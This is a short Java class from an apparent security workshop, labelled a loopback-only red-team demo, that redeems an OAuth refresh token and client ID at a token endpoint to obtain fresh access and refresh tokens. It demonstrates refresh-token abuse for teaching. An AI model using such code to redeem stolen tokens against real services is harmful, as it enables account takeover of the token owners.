package workshop.attacks;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.net.URI;
import java.util.Map;

/** Red team: refresh tokens redeemed by the wrong party (ATTACK DEMO, loopback only). */
public final class RefreshAbuse {

    private RefreshAbuse() {
    }

    /**
     * A10 · POSTs {@code refresh_token} and {@code client_id} as a form to {@code refreshEndpoint} (loopback only,
     * else NotLoopback) and returns the JSON answer (access_token, refresh_token, …); IllegalStateException with the
     * status for anything but 200.
     */
    public static Map<String, Object> redeem(URI refreshEndpoint, String refreshToken, String clientId) {
        Http.Answer answer = Http.postForm(Loopback.require(refreshEndpoint),
                Map.of("refresh_token", refreshToken, "client_id", clientId));
        if (answer.status() != 200) {
            throw new IllegalStateException("the refresh was refused: " + answer.status());
        }
        try {
            return new ObjectMapper().readValue(answer.body(), new TypeReference<Map<String, Object>>() { });
        } catch (IOException e) {
            throw new IllegalStateException("the answer is not JSON", e);
        }
    }
}
